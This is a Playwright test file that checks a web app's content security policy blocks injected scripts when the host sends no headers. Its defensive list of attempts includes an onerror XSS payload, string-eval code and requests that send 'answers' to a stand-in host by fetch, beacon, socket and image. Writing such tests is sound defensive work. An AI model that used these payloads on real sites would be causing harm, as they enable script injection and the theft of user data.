import type { BrowserContext, Page } from '@playwright/test'
import { expect, goToSummary, open, rateAll, test } from '../support/journey'

/** As a host does that sends nothing but the files. */
async function withoutHeaders(context: BrowserContext) {
  await context.route('**', async (route) => {
    const response = await route.fetch()
    const { 'content-type': type = '' } = response.headers()
    await route.fulfill({ response, headers: { 'content-type': type } })
  })
}

/** What a script that slipped into the page might try, and what the browser says to it. */
const attempts: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'to fetch from another site': (page) => page.evaluate(() => fetch('https://example.org/?answers')),
  'to fetch from its own': (page) => page.evaluate(() => fetch('/?answers')),
  'to send a beacon': (page) =>
    page.evaluate(() => {
      navigator.sendBeacon('https://example.org/', 'answers')
    }),
  'to open a socket': (page) => page.evaluate(() => void new WebSocket('wss://example.org/')),
  'to show a picture of another site': (page) =>
    page.evaluate(() => (new Image().src = 'https://example.org/?answers')),
  'to make code from text': (page) => page.evaluate(() => setTimeout('globalThis.pwned = 1')),
  'to put markup in': (page) =>
    page.evaluate(() => (document.body.innerHTML = '<img src=x onerror=alert()>')),
  'to make a policy of its own for that': (page) =>
    page.evaluate(() => window.trustedTypes?.createPolicy('default', { createHTML: (text) => text })),
  'to put a script in': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script')
      script.append('globalThis.pwned = 1')
      document.body.append(script)
    }),
  'to load a script of another site': (page) =>
    page.evaluate(async () => {
      await import('https://example.org/x.js' as string)
    }),
  'to put a style in': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style')
      style.append('* { color: red }')
      document.head.append(style)
    }),
  'to send a form': (page) =>
    page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: '/answers', method: 'post' })
      document.body.append(form)
      form.submit()
    }),
  'to frame another page': (page) =>
    page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/' }))
    }),
  'to change where addresses lead': (page) =>
    page.evaluate(() => {
      document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://example.org/' }))
    }),
}

test.describe('the policy of a page from a host that sends no headers', () => {
  test.use({ serviceWorkers: 'block' })

  test('lets the page do all that it does', async ({ page, context }) => {
    await withoutHeaders(context)
    await open(page, '/dry-needling/weigh')
    await rateAll(page, ['Matters a lot', 'Matters'])
    await goToSummary(page)
    await expect(page.locator('.hand-over .link')).toContainText('/read#')
    const downloading = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Save as a file' }).click()
    await downloading
  })

  test.describe('refuses a script that slipped in', () => {
    // Each refusal is told on the console.
    test.use({ quiet: undefined })
    test('whatever it tries', async ({ page, context }) => {
      await withoutHeaders(context)
      const beyond: string[] = []
      context.on('requestfinished', (request) => {
        if (/example\.org|answers/.test(request.url())) beyond.push(request.url())
      })
      for (const [what, attempt] of Object.entries(attempts)) {
        await open(page, '/dry-needling')
        const refused = page.evaluate(
          () =>
            new Promise<string>((tell) =>
              document.addEventListener(
                'securitypolicyviolation',
                ({ violatedDirective }) => tell(violatedDirective),
                { once: true },
              ),
            ),
        )
        await attempt(page).catch(() => {})
        expect(await refused, what).toMatch(/^(connect|img|script|style|frame|form|base|require|trusted)-/)
      }
      expect(beyond).toEqual([])
      expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned') as unknown)).toBeUndefined()
    })
  })
})
